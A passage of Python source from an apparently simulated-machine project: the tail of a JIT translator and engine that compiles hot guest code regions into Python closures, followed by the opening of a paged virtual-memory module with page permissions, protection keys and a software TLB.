    Op.JB: ("({a} < {b})", "flags & 4"),
    Op.JAE: ("({a} >= {b})", "not flags & 4"),
}

_VALID_REGS = frozenset(GP_REGISTERS)


class _Translator:
    """Emits the closure source for one superblock region."""

    def __init__(self, region, entry: int):
        self.region = region
        self.entry = entry
        self.single = len(region) == 1
        self.block_ids = {start: i for i, start in
                          enumerate(sorted(region))}
        self.block_ids[entry], old = 0, self.block_ids[entry]
        for start, bid in list(self.block_ids.items()):
            if start != entry and bid == 0:
                self.block_ids[start] = old
        self.used: Set[str] = set()
        # site 0 is the entry sentinel: rip=entry, 0 charged
        self.sites: List[Tuple[int, int]] = [(entry, 0)]
        self.caches: List[int] = []       # site ids with inline caches
        self.lines: List[str] = []
        self.base_indent = 0
        # per-block state
        self.pend: Dict[str, _Expr] = {}
        self.fpend: Optional[_Flags] = None
        self.meta: Dict[str, Tuple[Optional[int], Optional[int]]] = {}
        #: register name for which `_i` currently holds `reg >> 12`
        self.last_idx: Optional[str] = None
        #: id of the block being emitted (self-edges skip the `b =`)
        self.cur_bid = 0
        self.insns = 0

    # -- emission helpers ---------------------------------------------------

    def _o(self, text: str, depth: int = 0) -> None:
        self.lines.append("    " * (self.base_indent + depth) + text)

    def _site(self, rip_next: int, charged: int) -> int:
        self.sites.append((rip_next, charged))
        return len(self.sites) - 1

    def _reg(self, name: str) -> str:
        if name not in _VALID_REGS:
            raise JitFailure(f"unknown register {name!r}")
        self.used.add(name)
        return name

    # -- value tracking -----------------------------------------------------

    def _val(self, reg: str) -> _Expr:
        expr = self.pend.get(reg)
        if expr is not None:
            return expr
        mod8, bits = self.meta.get(reg, (None, None))
        return _Expr(self._reg(reg), frozenset((reg,)), True, mod8, bits)

    @staticmethod
    def _masked(expr: _Expr) -> str:
        return expr.text if expr.masked else f"({expr.text} & M)"

    def _commit_flags(self) -> None:
        # `_fa = -1` is the "no pending compare" sentinel (committed
        # operands are always masked, hence >= 0), so a commit is two
        # statements, not three
        fp = self.fpend
        if fp is None or fp.emitted:
            return
        self._o(f"_fa = {fp.a}")
        self._o(f"_fb = {fp.b}")
        fp.a, fp.arefs = "_fa", _NOREFS
        fp.b, fp.brefs = "_fb", _NOREFS
        fp.emitted = True

    def _materialize(self, reg: str) -> None:
        expr = self.pend.pop(reg)
        # emitting rebinds `reg`, so every other pending expression that
        # still reads reg's *current* value must be emitted first (no
        # cycles: _assign never leaves two pends referencing each other)
        for other in list(self.pend):
            if other in self.pend and reg in self.pend[other].refs:
                self._materialize(other)
        text = self._masked(expr)
        fp = self.fpend
        if fp is not None and not fp.emitted and reg in fp.refs:
            # the common `op r; cmp r, x; jcc` idiom: if a flag operand is
            # textually the value being materialized, retarget it at the
            # fresh local instead of emitting the expression twice
            if fp.a == text and reg not in fp.brefs:
                self._o(f"{reg} = {text}")
                self._clobber(reg)
                fp.a, fp.arefs = reg, frozenset((reg,))
                self.meta[reg] = (expr.mod8,
                                  expr.bits if expr.masked else None)
                return
            if fp.b == text and reg not in fp.arefs:
                self._o(f"{reg} = {text}")
                self._clobber(reg)
                fp.b, fp.brefs = reg, frozenset((reg,))
                self.meta[reg] = (expr.mod8,
                                  expr.bits if expr.masked else None)
                return
            self._commit_flags()
        self._o(f"{reg} = {text}")
        self._clobber(reg)
        self.meta[reg] = (expr.mod8, expr.bits if expr.masked else None)

    def _flush_all(self) -> None:
        for reg in list(self.pend):
            if reg in self.pend:
                self._materialize(reg)
        self._commit_flags()

    def _define(self, reg: str) -> None:
        """Rebinding local ``reg``: flush every pending value that still
        reads its current contents."""
        for other in list(self.pend):
            if other in self.pend and other != reg \
                    and reg in self.pend[other].refs:
                self._materialize(other)
        fp = self.fpend
        if fp is not None and not fp.emitted and reg in fp.refs:
            self._commit_flags()
        self.meta.pop(reg, None)

    def _assign(self, reg: str, expr: _Expr) -> None:
        self._reg(reg)
        # if `expr` inlines the pending value of a register that _define
        # is about to materialize (because that pend reads `reg`), the
        # rebind would go stale inside `expr` — evaluate it first
        if any(other != reg and other in expr.refs
               and reg in self.pend[other].refs for other in self.pend):
            self._o(f"_v = {self._masked(expr)}")
            self._define(reg)
            self.pend.pop(reg, None)
            self._o(f"{reg} = _v")
            self._clobber(reg)
            self.meta[reg] = (expr.mod8, expr.bits if expr.masked else None)
            return
        self._define(reg)
        self.pend[reg] = expr

    # -- ALU expression builders --------------------------------------------

    def _alu(self, op: Op, a: _Expr, b: _Expr) -> _Expr:
        refs = a.refs | b.refs
        am, bm = a.mod8, b.mod8
        ab, bb = a.bits, b.bits
        if op in (Op.ADD_RR, Op.ADD_RI):
            bits = max(ab, bb) + 1 if ab is not None and bb is not None \
                and a.masked and b.masked else None
            masked = bits is not None and bits <= 64
            return _Expr(f"({a.text} + {b.text})", refs, masked,
                         (am + bm) % 8 if am is not None and bm is not None
                         else None, bits if masked else None)
        if op in (Op.SUB_RR, Op.SUB_RI):
            return _Expr(f"({a.text} - {b.text})", refs, False,
                         (am - bm) % 8 if am is not None and bm is not None
                         else None, None)
        if op in (Op.AND_RR, Op.AND_RI):
            masked = a.masked or b.masked
            bits = min(x for x in (ab, bb) if x is not None) \
                if (ab is not None or bb is not None) else None
            return _Expr(f"({a.text} & {b.text})", refs, masked,
                         am & bm if am is not None and bm is not None
                         else None, bits if masked else None)
        if op in (Op.OR_RR, Op.OR_RI):
            masked = a.masked and b.masked
            bits = max(ab, bb) if ab is not None and bb is not None else None
            return _Expr(f"({a.text} | {b.text})", refs, masked,
                         am | bm if am is not None and bm is not None
                         else None, bits if masked else None)
        if op in (Op.XOR_RR, Op.XOR_RI):
            masked = a.masked and b.masked
            bits = max(ab, bb) if ab is not None and bb is not None else None
            return _Expr(f"({a.text} ^ {b.text})", refs, masked,
                         am ^ bm if am is not None and bm is not None
                         else None, bits if masked else None)
        if op is Op.MUL_RR:
            bits = ab + bb if ab is not None and bb is not None \
                and a.masked and b.masked else None
            masked = bits is not None and bits <= 64
            return _Expr(f"({a.text} * {b.text})", refs, masked,
                         (am * bm) % 8 if am is not None and bm is not None
                         else None, bits if masked else None)
        raise JitFailure(f"no ALU rule for {op}")        # pragma: no cover

    def _shift(self, op: Op, a: _Expr, imm: int) -> _Expr:
        sh = imm & 63
        if op is Op.SHL_RI:
            bits = a.bits + sh if a.bits is not None and a.masked else None
            masked = bits is not None and bits <= 64
            if a.mod8 is not None:
                mod8 = (a.mod8 << sh) & 7
            else:
                mod8 = 0 if sh >= 3 else None
            return _Expr(f"({a.text} << {sh})", a.refs, masked, mod8,
                         bits if masked else None)
        # SHR_RI: operate on the masked value (logical shift)
        text = self._masked(a)
        known = a.bits if a.masked and a.bits is not None else 64
        return _Expr(f"({text} >> {sh})", a.refs, True,
                     a.mod8 if sh == 0 else None, max(known - sh, 0))

    def _addr(self, base: _Expr, imm: int) -> _Expr:
        if imm == 0:
            return base
        return self._alu(Op.ADD_RI, base, _const(imm))

    # -- memory-op emitters (all flush pending state first at call sites) ---

    def _clobber(self, reg: str) -> None:
        """A closure local was rebound: forget any `_i` derived from it."""
        if self.last_idx == reg:
            self.last_idx = None

    def _bind_addr(self, addr: _Expr) -> str:
        """Address operand as a closure local.  A bare local (register or
        ``pkru``) is used directly — nothing can rebind it during the
        emitted access sequence; compound expressions bind the ``_a``
        scratch once."""
        text = self._masked(addr)
        if text.isidentifier():
            return text
        self._o(f"_a = {text}")
        return "_a"

    def _page_index(self, av: str) -> None:
        """``_i = av >> 12``, CSE'd across back-to-back memory ops on the
        same (unclobbered) register."""
        if av != "_a" and self.last_idx == av:
            return
        self._o(f"_i = {av} >> 12")
        self.last_idx = av if av != "_a" else None

    def _emit_load_word(self, addr: _Expr, dest: str, rip_next: int,
                        charged: int) -> None:
        site = self._site(rip_next, charged)
        av = self._bind_addr(addr)
        if addr.mod8 not in (None, 0):
            # statically misaligned: read_word always raises AlignmentFault
            self._o(f"site = {site}")
            self._o(f"{dest} = read_word({av}, pkru)")
            self._clobber(dest)
            return
        self.caches.append(site)
        ci, cd = f"c{site}_i", f"c{site}_d"
        self._page_index(av)
        guard = f"_i == {ci}" if addr.mod8 == 0 \
            else f"_i == {ci} and not {av} & 7"
        self._o(f"if {guard}:")
        self._o(f"{dest} = up({cd}, {av} & 4095)[0]", 1)
        self._o("else:")
        self._o(f"site = {site}", 1)
        self._o(f"{dest} = read_word({av}, pkru)", 1)
        self._o("_p = pages_get(_i)", 1)
        self._o("if _p is not None:", 1)
        self._o(f"{ci} = _i", 2)
        self._o(f"{cd} = _p.data", 2)
        self._clobber(dest)

    def _emit_store_word(self, addr: _Expr, value: str, rip_next: int,
                         charged: int, exit_pc: str) -> None:
        site = self._site(rip_next, charged)
        av = self._bind_addr(addr)
        if addr.mod8 not in (None, 0):
            self._o(f"site = {site}")
            self._o(f"write_word({av}, {value}, pkru)")
            return
        self.caches.append(site)
        ci, cd = f"c{site}_i", f"c{site}_d"
        self._page_index(av)
        guard = f"_i == {ci}" if addr.mod8 == 0 \
            else f"_i == {ci} and not {av} & 7"
        self._o(f"if {guard}:")
        self._o(f"pk({cd}, {av} & 4095, {value})", 1)
        self._o("else:")
        self._o(f"site = {site}", 1)
        self._o(f"write_word({av}, {value}, pkru)", 1)
        # the store may have invalidated *this* translation
        self._o("if not V0[0]:", 1)
        self._o(f"n += {charged}", 2)
        self._o(f"pc = {exit_pc}", 2)
        self._o("break", 2)
        # only memoize pages nothing decodes/translates from, so cached
        # stores can never bypass an invalidation
        self._o("_p = pages_get(_i)", 1)
        self._o("if _p is not None and _p.decode_cache is None "
                "and _p.jit_cache is None:", 1)
        self._o(f"{ci} = _i", 2)
        self._o(f"{cd} = _p.data", 2)

    def _emit_load_byte(self, addr: _Expr, dest: str, rip_next: int,
                        charged: int) -> None:
        site = self._site(rip_next, charged)
        self.caches.append(site)
        ci, cd = f"c{site}_i", f"c{site}_d"
        av = self._bind_addr(addr)
        self._page_index(av)
        self._o(f"if _i == {ci}:")
        self._o(f"{dest} = {cd}[{av} & 4095]", 1)
        self._o("else:")
        self._o(f"site = {site}", 1)
        self._o(f"{dest} = read_({av}, 1, pkru)[0]", 1)
        self._o("_p = pages_get(_i)", 1)
        self._o("if _p is not None:", 1)
        self._o(f"{ci} = _i", 2)
        self._o(f"{cd} = _p.data", 2)
        self._clobber(dest)

    def _emit_store_byte(self, addr: _Expr, value: str, rip_next: int,
                         charged: int) -> None:
        site = self._site(rip_next, charged)
        self.caches.append(site)
        ci, cd = f"c{site}_i", f"c{site}_d"
        av = self._bind_addr(addr)
        self._page_index(av)
        self._o(f"if _i == {ci}:")
        self._o(f"{cd}[{av} & 4095] = {value} & 255", 1)
        self._o("else:")
        self._o(f"site = {site}", 1)
        self._o(f"write_({av}, _B(({value} & 255,)), pkru)", 1)
        self._o("if not V0[0]:", 1)
        self._o(f"n += {charged}", 2)
        self._o(f"pc = {rip_next}", 2)
        self._o("break", 2)
        self._o("_p = pages_get(_i)", 1)
        self._o("if _p is not None and _p.decode_cache is None "
                "and _p.jit_cache is None:", 1)
        self._o(f"{ci} = _i", 2)
        self._o(f"{cd} = _p.data", 2)

    # -- per-instruction emission -------------------------------------------

    def _emit_insn(self, k: int, addr: int, ins) -> None:
        op = ins.op
        nxt = addr + INSTR_SIZE
        if op in (Op.NOP, Op.BRK):
            return
        if op is Op.MOV_RR:
            self._reg(ins.reg2)
            self._assign(ins.reg1, self._val(ins.reg2))
            return
        if op is Op.MOV_RI:
            self._assign(ins.reg1, _const(ins.imm))
            return
        if op is Op.LEA:
            self._assign(ins.reg1, _const(nxt + ins.imm))
            return
        if op is Op.RDPKRU:
            # pkru is constant per invocation (WRPKRU is an exit)
            self._assign("rax", _Expr("pkru", frozenset(("pkru",)), True))
            return
        if op in _ALU_RR:
            expr = self._alu(op, self._val(ins.reg1), self._val(ins.reg2))
            self._reg(ins.reg2)
            self._assign(ins.reg1, expr)
            return
        if op in _ALU_RI:
            expr = self._alu(op, self._val(ins.reg1), _const(ins.imm))
            self._assign(ins.reg1, expr)
            return
        if op in (Op.SHL_RI, Op.SHR_RI):
            self._assign(ins.reg1,
                         self._shift(op, self._val(ins.reg1), ins.imm))
            return
        if op is Op.NOT_R:
            a = self._val(ins.reg1)
            self._assign(ins.reg1, _Expr(
                f"(~{a.text})", a.refs, False,
                (~a.mod8) % 8 if a.mod8 is not None else None, None))
            return
        if op is Op.CMP_RR:
            a, b = self._val(ins.reg1), self._val(ins.reg2)
            self._reg(ins.reg1), self._reg(ins.reg2)
            self.fpend = _Flags(self._masked(a), a.refs,
                                self._masked(b), b.refs)
            return
        if op is Op.CMP_RI:
            a = self._val(ins.reg1)
            self._reg(ins.reg1)
            self.fpend = _Flags(self._masked(a), a.refs,
                                repr(ins.imm & _M), _NOREFS)
            return
        if op is Op.TEST_RR:
            e = self._alu(Op.AND_RR, self._val(ins.reg1),
                          self._val(ins.reg2))
            self._reg(ins.reg1), self._reg(ins.reg2)
            self.fpend = _Flags(self._masked(e), e.refs, "0", _NOREFS)
            return
        if op is Op.LOAD:
            self._flush_all()
            addr_e = self._addr(self._val(ins.reg2), ins.imm)
            self._reg(ins.reg2)
            dest = self._reg(ins.reg1)
            self._emit_load_word(addr_e, dest, nxt, k + 1)
            self.meta[dest] = (None, None)
            return
        if op is Op.STORE:
            self._flush_all()
            addr_e = self._addr(self._val(ins.reg1), ins.imm)
            self._reg(ins.reg1)
            value = self._masked(self._val(ins.reg2))
            self._reg(ins.reg2)
            self._emit_store_word(addr_e, value, nxt, k + 1, repr(nxt))
            return
        if op is Op.LOAD8:
            self._flush_all()
            addr_e = self._addr(self._val(ins.reg2), ins.imm)
            self._reg(ins.reg2)
            dest = self._reg(ins.reg1)
            self._emit_load_byte(addr_e, dest, nxt, k + 1)
            self.meta[dest] = (None, 8)
            return
        if op is Op.STORE8:
            self._flush_all()
            addr_e = self._addr(self._val(ins.reg1), ins.imm)
            self._reg(ins.reg1)
            value = self._masked(self._val(ins.reg2))
            self._reg(ins.reg2)
            self._emit_store_byte(addr_e, value, nxt, k + 1)
            return
        if op in (Op.PUSH_R, Op.PUSH_I):
            self._flush_all()
            self._reg("rsp")
            if op is Op.PUSH_I:
                value = repr(ins.imm & _M)
            elif ins.reg1 == "rsp":
                # the precise handler reads the value *before* moving rsp
                self._o("_v = rsp")
                value = "_v"
            else:
                value = self._reg(ins.reg1)
            self._o("rsp = (rsp - 8) & M")
            self.meta.pop("rsp", None)
            self._clobber("rsp")
            self._emit_store_word(
                _Expr("rsp", frozenset(("rsp",)), True), value, nxt,
                k + 1, repr(nxt))
            return
        if op is Op.POP_R:
            self._flush_all()
            self._reg("rsp")
            self._emit_load_word(
                _Expr("rsp", frozenset(("rsp",)), True), "_v", nxt, k + 1)
            self._o("rsp = (rsp + 8) & M")
            self.meta.pop("rsp", None)
            self._clobber("rsp")
            dest = self._reg(ins.reg1)
            self._o(f"{dest} = _v")
            self.meta[dest] = (None, None)
            self._clobber(dest)
            return
        raise JitFailure(f"untranslatable opcode {op} at {addr:#x}")

    # -- control flow -------------------------------------------------------

    def _edge(self, target: int, depth: int) -> None:
        if target in self.block_ids:
            bid = self.block_ids[target]
            if not self.single and bid != self.cur_bid:
                self._o(f"b = {bid}", depth)
            self._o("continue", depth)
        else:
            self._o(f"pc = {target}", depth)
            self._o("break", depth)

    def _emit_exit_before(self, addr: int, k: int) -> None:
        """SYSCALL/HLCALL/WRPKRU: hand the instruction itself back to the
        interpreter (host callbacks and PKRU writes are never jitted)."""
        self._flush_all()
        self._o(f"n += {k}")
        self._o(f"pc = {addr}")
        self._o("break")

    def _emit_terminator(self, block, k: int, addr: int, ins) -> None:
        op = ins.op
        nxt = addr + INSTR_SIZE
        cnt = len(block.instructions)
        if op is Op.HLT:
            self._flush_all()
            site = self._site(nxt, 0)
            self._o(f"n += {cnt}")
            self._o(f"site = {site}")
            self._o("raise CpuExit('hlt')")
            return
        if op is Op.JMP:
            self._flush_all()
            self._o(f"n += {cnt}")
            self._edge((nxt + ins.imm) & _M, 0)
            return
        if op in _COND:
            self._flush_all()
            self._o(f"n += {cnt}")
            fp = self.fpend
            static, runtime = _COND[op]
            if fp is not None:
                cond = static.format(a=fp.a, b=fp.b)
            else:
                self._o("if _fa >= 0:")
                self._o("flags = _matf(_fa, _fb)", 1)
                self._o("_fa = -1", 1)
                cond = runtime
            self._o(f"if {cond}:")
            self._edge((nxt + ins.imm) & _M, 1)
            self._edge(nxt, 0)
            return
        if op in (Op.CALL, Op.CALL_R):
            self._flush_all()
            self._reg("rsp")
            self._o("rsp = (rsp - 8) & M")
            self.meta.pop("rsp", None)
            self._clobber("rsp")
            if op is Op.CALL:
                exit_pc = repr((nxt + ins.imm) & _M)
            else:
                # precise CALL_R reads the target *after* the push
                exit_pc = self._reg(ins.reg1)
            self._emit_store_word(
                _Expr("rsp", frozenset(("rsp",)), True), repr(nxt), nxt,
                cnt, exit_pc)
            self._o(f"n += {cnt}")
            if op is Op.CALL:
                self._edge((nxt + ins.imm) & _M, 0)
            else:
                self._o(f"pc = {exit_pc}")
                self._o("break")
            return
        if op is Op.RET:
            self._flush_all()
            self._reg("rsp")
            self._emit_load_word(
                _Expr("rsp", frozenset(("rsp",)), True), "_v", nxt, cnt)
            self._o("rsp = (rsp + 8) & M")
            self.meta.pop("rsp", None)
            self._clobber("rsp")
            self._o(f"n += {cnt}")
            self._o("pc = _v")
            self._o("break")
            return
        if op is Op.JMP_R:
            self._flush_all()
            self._o(f"n += {cnt}")
            self._o(f"pc = {self._reg(ins.reg1)}")
            self._o("break")
            return
        if op is Op.JMP_M:
            self._flush_all()
            self._emit_load_word(_const(nxt + ins.imm), "_v", nxt, cnt)
            self._o(f"n += {cnt}")
            self._o("pc = _v")
            self._o("break")
            return
        raise JitFailure(f"unhandled terminator {op}")  # pragma: no cover

    def _emit_block(self, block) -> None:
        self.pend = {}
        self.fpend = None
        self.meta = {}
        self.last_idx = None
        self.cur_bid = self.block_ids[block.start]
        instrs = block.instructions
        cnt = len(instrs)
        self.insns += cnt
        for k, (addr, ins) in enumerate(instrs):
            op = ins.op
            if op in _EXIT_BEFORE:
                self._emit_exit_before(addr, k)
                return
            if k == cnt - 1 and (op in _TERM_SPECIAL or op is Op.JMP
                                 or op is Op.HLT or op in _COND):
                self._emit_terminator(block, k, addr, ins)
                return
            self._emit_insn(k, addr, ins)
        # block was split by a leader: plain fall-through
        self._flush_all()
        self._o(f"n += {cnt}")
        self._edge(block.end, 0)

    # -- assembly -----------------------------------------------------------

    def build(self) -> str:
        ordered = sorted(self.region.values(),
                         key=lambda blk: self.block_ids[blk.start])
        if self.single:
            self.base_indent = 3
            self._emit_block(ordered[0])
        else:
            for blk in ordered:
                bid = self.block_ids[blk.start]
                self.base_indent = 3
                self._o(f"{'if' if bid == 0 else 'elif'} b == {bid}:")
                self.base_indent = 4
                self._emit_block(blk)
            self.base_indent = 3
            self._o("else:")
            self._o("raise RuntimeError('jit dispatch')", 1)

        head = ["def _jit(state, regs, regs_d, space, OUT):"]

        def p(text: str, depth: int = 1) -> None:
            head.append("    " * depth + text)

        p("pkru = state.pkru")
        p("pages_get = space._pages.get")
        p("read_word = space.read_word")
        p("write_word = space.write_word")
        p("read_ = space.read")
        p("write_ = space.write")
        p("flags = regs.flags")
        p("_fa = -1; _fb = 0; _v = 0; _a = 0; _i = -1; _p = None")
        p("n = 0; site = 0; pc = 0")
        if not self.single:
            p("b = 0")
        for s in self.caches:
            p(f"c{s}_i = -1; c{s}_d = None")
        regs_used = sorted(self.used)
        for r in regs_used:
            p(f"{r} = regs_d['{r}']")
        p("try:")
        p("while True:", 2)
        out = head + self.lines
        p2 = out.append
        p2("    except BaseException:")
        for r in regs_used:
            p2(f"        regs_d['{r}'] = {r}")
        p2("        regs.flags = flags if _fa < 0 else _matf(_fa, _fb)")
        p2("        regs.rip = _SRIP[site]")
        p2("        OUT[0] = n + _SN[site]")
        p2("        raise")
        for r in regs_used:
            p2(f"    regs_d['{r}'] = {r}")
        p2("    regs.flags = flags if _fa < 0 else _matf(_fa, _fb)")
        p2("    regs.rip = pc")
        p2("    OUT[0] = n")
        return "\n".join(out) + "\n"


# --------------------------------------------------------------------------
# the engine

_ALU_RR = frozenset({Op.ADD_RR, Op.SUB_RR, Op.AND_RR, Op.OR_RR,
                     Op.XOR_RR, Op.MUL_RR})
_ALU_RI = frozenset({Op.ADD_RI, Op.SUB_RI, Op.AND_RI, Op.OR_RI,
                     Op.XOR_RI})
_TERM_SPECIAL = frozenset({Op.CALL, Op.CALL_R, Op.RET, Op.JMP_R, Op.JMP_M})


class JitEngine:
    """Per-CPU promotion counters, translation, and the chained executor."""

    def __init__(self, cpu, threshold: int = HOT_THRESHOLD):
        self.cpu = cpu
        self.threshold = threshold
        self.hot: Dict[int, int] = {}
        self.failed: set = set()
        self.promotions = 0
        self.invalidations = 0
        self.entries = 0
        self.blocks_translated = 0
        self.insns_translated = 0
        self.last_error: Optional[BaseException] = None
        self._out = [0]

    def maybe_enter(self, state, until_rip: int) -> int:
        """Called by the fast path after a taken backward branch.  Counts
        the target, translates at threshold, and runs the translation.
        Returns the number of guest instructions retired in the JIT (0 if
        it stayed cold/blacklisted)."""
        rip = state.regs.rip
        page = self.cpu.space._pages.get(rip >> 12)
        if page is None or not page.prot & 4:                 # PROT_EXEC
            return 0
        cache = page.jit_cache
        tr = cache.get(rip & 0xFFF) if cache is not None else None
        if tr is None:
            return self._promote(state, page, rip, until_rip)
        if tr is False or until_rip in tr.covers:
            return 0
        return self._execute(state, until_rip, tr)

    def _promote(self, state, page, rip: int, until_rip: int) -> int:
        hot = self.hot
        count = hot.get(rip, 0) + 1
        if count < self.threshold:
            if len(hot) >= MAX_HOT_ENTRIES:
                hot.clear()
            hot[rip] = count
            return 0
        hot.pop(rip, None)
        tr: "object" = False
        if rip not in self.failed:
            try:
                tr = self._translate(page, rip) or False
            except Exception as exc:          # codegen bug: stay correct,
                self.last_error = exc         # run the region interpreted
                tr = False
        cache = page.jit_cache
        if cache is None:
            cache = page.jit_cache = {}
        cache[rip & 0xFFF] = tr
        if tr is False:
            self.failed.add(rip)
            return 0
        self.promotions += 1
        self.blocks_translated += tr.blocks
        self.insns_translated += tr.insns
        if until_rip in tr.covers:
            return 0
        return self._execute(state, until_rip, tr)

    def _translate(self, page, entry: int) -> Optional[Translation]:
        from repro.analysis.cfg import recover_hot_region

        base = entry & ~0xFFF
        region = recover_hot_region(bytes(page.data), base, entry,
                                    MAX_BLOCKS)
        if not region:
            return None
        # only translate regions with an internal loop: a straight-line
        # region costs more in entry overhead than interpreting it
        if not any(succ in region and succ <= start
                   for start, blk in region.items()
                   for succ in blk.successors):
            return None
        first_op = region[entry].instructions[0][1].op
        if first_op in _EXIT_BEFORE:
            return None                       # zero-progress translation
        translator = _Translator(region, entry)
        try:
            source = translator.build()
            code = compile(source, f"<jit {entry:#x}>", "exec")
        except JitFailure:
            return None
        valid = [True]
        namespace = {
            "M": _M, "up": _WORD.unpack_from, "pk": _WORD.pack_into,
            "_matf": _matf, "CpuExit": CpuExit, "V0": valid,
            "_SRIP": tuple(r for r, _ in translator.sites),
            "_SN": tuple(c for _, c in translator.sites), "_B": bytes,
        }
        exec(code, namespace)
        covers = frozenset(addr for blk in region.values()
                           for addr, _ in blk.instructions)
        return Translation(namespace["_jit"], valid, covers, entry,
                           len(region), translator.insns, self, source)

    def _execute(self, state, until_rip: int, tr: Translation) -> int:
        """Run translations, chaining across exits, charging each batch
        through the out-cell (also on faults, via the finally)."""
        cpu = self.cpu
        counter = cpu.counter
        cost_ns = cpu.costs.instruction_ns
        regs = state.regs
        pages_get = cpu.space._pages.get
        out = self._out
        executed = 0
        self.entries += 1
        fn = tr.fn
        while True:
            out[0] = 0
            try:
                fn(state, regs, regs._regs, cpu.space, out)
            finally:
                n = out[0]
                if n:
                    executed += n
                    counter.charge(n * cost_ns, "cpu")
                    cpu.instructions_retired += n
                    cpu.jit_insns += n
            rip = regs.rip
            if rip == until_rip:
                break
            page = pages_get(rip >> 12)
            if page is None or not page.prot & 4:
                break
            cache = page.jit_cache
            tr = cache.get(rip & 0xFFF) if cache is not None else None
            if not tr:                        # None or a False blacklist
                break
            if until_rip in tr.covers or cpu._precision_forced():
                break
            fn = tr.fn
        return executed
