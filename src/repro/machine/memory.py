"""Paged virtual memory with permission and protection-key checks.

An :class:`AddressSpace` is a sparse mapping from page index to
:class:`Page`.  All guest data lives in these pages; the MMU front end
(:meth:`AddressSpace.read` / :meth:`AddressSpace.write` /
:meth:`AddressSpace.fetch_check`) enforces:

* the page must be mapped (else :class:`SegmentationFault`),
* classic R/W/X page permissions,
* MPK: the accessing thread's PKRU must allow the page's protection key
  for *data* accesses (fetch ignores PKRU — that is what enables XoM).

Observers can hook every access; the taint engine and the perf profiler
attach here.  When no observer is attached the MMU takes fast paths: a
small software TLB memoizes ``(page_index, pkru) -> Page`` per access
direction (flushed whenever any mapping, permission, or protection key
changes — :attr:`AddressSpace.mapping_epoch` counts those changes), and
``read_word``/``write_word`` unpack directly from the page's backing
``bytearray`` without intermediate copies.  TLB hits re-validate the
cached page's ``prot``/``pkey`` so pages *shared* between address spaces
(``share_into``) stay correct even when another space's
``pkey_mprotect`` mutates the shared :class:`Page` object.

Each page also carries the interpreter's decoded-instruction cache
(:attr:`Page.decode_cache`, owned by :mod:`repro.machine.cpu`); every
write path here invalidates it so self-modifying code is re-decoded.
Host code that mutates ``page.data`` directly (variant creation,
dirty-page refresh) must call :meth:`Page.invalidate_decode`.
"""

from __future__ import annotations

import struct
from typing import Callable, Dict, Iterator, List, Optional, Tuple

from repro.errors import (
    AlignmentFault,
    ExecuteFault,
    ProtectionKeyFault,
    SegmentationFault,
)
from repro.machine.mpk import (
    NUM_PKEYS,
    PKEY_DEFAULT,
    PKRU_ALLOW_ALL,
    pkru_allows_read,
    pkru_allows_write,
)

PAGE_SIZE = 4096
WORD_SIZE = 8

PROT_NONE = 0
PROT_READ = 1
PROT_WRITE = 2
PROT_EXEC = 4
PROT_RW = PROT_READ | PROT_WRITE
PROT_RX = PROT_READ | PROT_EXEC
PROT_RWX = PROT_READ | PROT_WRITE | PROT_EXEC

#: Canonical user address ceiling (47-bit, like x86-64 user space).
ADDRESS_LIMIT = 1 << 47

_WORD_STRUCT = struct.Struct("<Q")
_MASK64 = (1 << 64) - 1


def page_align_down(addr: int) -> int:
    return addr & ~(PAGE_SIZE - 1)


def page_align_up(addr: int) -> int:
    return (addr + PAGE_SIZE - 1) & ~(PAGE_SIZE - 1)


class Page:
    """One 4 KiB page: backing bytes, R/W/X permissions, protection key."""

    __slots__ = ("data", "prot", "pkey", "tag", "decode_cache", "jit_cache")

    def __init__(self, prot: int = PROT_RW, pkey: int = PKEY_DEFAULT,
                 tag: str = ""):
        self.data = bytearray(PAGE_SIZE)
        self.prot = prot
        self.pkey = pkey
        #: free-form label ("text", "heap", "monitor", ...) used by pmap.
        self.tag = tag
        #: per-page decoded-instruction cache, lazily populated by the CPU
        #: (offset -> decoded entry).  ``None`` means "nothing cached".
        #: Every MMU write path drops it; because the cache lives on the
        #: Page itself, pages aliased into other spaces (share_into) are
        #: invalidated through whichever space performs the write.
        self.decode_cache: Optional[dict] = None
        #: per-page JIT code cache, owned by :mod:`repro.machine.jit`
        #: (offset -> Translation, or ``False`` for a blacklisted entry).
        #: Invalidated by exactly the same hooks as ``decode_cache``.
        self.jit_cache: Optional[dict] = None

    def invalidate_decode(self) -> None:
        """Drop the decoded-instruction cache *and* any JIT translations
        anchored on this page.  Must be called by host code that mutates
        ``data`` directly instead of going through ``AddressSpace.write``
        (e.g. variant page refresh)."""
        self.decode_cache = None
        cache = self.jit_cache
        if cache is not None:
            self.jit_cache = None
            for translation in cache.values():
                if translation:        # skip blacklist markers (False)
                    translation.invalidate()

    def clone(self) -> "Page":
        page = Page(self.prot, self.pkey, self.tag)
        page.data[:] = self.data
        return page


# Observer signature: (op, address, size, value_bytes_or_None)
MemoryObserver = Callable[[str, int, int, Optional[bytes]], None]


class AddressSpace:
    """A sparse, paged, 47-bit virtual address space.

    ``pkru`` for checks is supplied per call because PKRU is a *thread*
    register, not a property of the address space.  Passing
    ``privileged=True`` models a kernel-mode access, which bypasses both
    page permissions and protection keys (the simulated kernel copies user
    buffers this way, as real kernels do via the direct map).
    """

    def __init__(self, name: str = "as"):
        self.name = name
        self._pages: Dict[int, Page] = {}
        self._observers: List[MemoryObserver] = []
        #: monotonically increasing hint for mmap(NULL) placement.
        self._mmap_hint = 0x7F00_0000_0000
        self.access_count = 0
        #: TLB fill count (misses on the memoized check paths); together
        #: with ``access_count`` this gives an approximate TLB hit rate
        #: for ``CPU.stats()``.
        self.tlb_fills = 0
        #: bumped on every mapping/permission/pkey change; the CPU's
        #: fast path re-validates its cached text page when this moves.
        self.mapping_epoch = 0
        # software TLB: (page_index, pkru) -> (page, prot, pkey) per
        # access direction.  Entries memoize a passed permission check;
        # the stored prot/pkey are re-validated on hit so mutations of
        # shared Page objects through *other* spaces cannot go stale.
        self._tlb_read: Dict[Tuple[int, int], Tuple[Page, int, int]] = {}
        self._tlb_write: Dict[Tuple[int, int], Tuple[Page, int, int]] = {}

    def _mapping_changed(self) -> None:
        """Flush the TLB and advance the epoch after any change to the
        page table, permissions, or protection keys."""
        self.mapping_epoch += 1
        if self._tlb_read:
            self._tlb_read.clear()
        if self._tlb_write:
            self._tlb_write.clear()

    # -- observation --------------------------------------------------------

    def add_observer(self, observer: MemoryObserver) -> None:
        self._observers.append(observer)

    def remove_observer(self, observer: MemoryObserver) -> None:
        self._observers.remove(observer)

    def _notify(self, op: str, addr: int, size: int,
                value: Optional[bytes]) -> None:
        for observer in self._observers:
            observer(op, addr, size, value)

    # -- mapping ------------------------------------------------------------

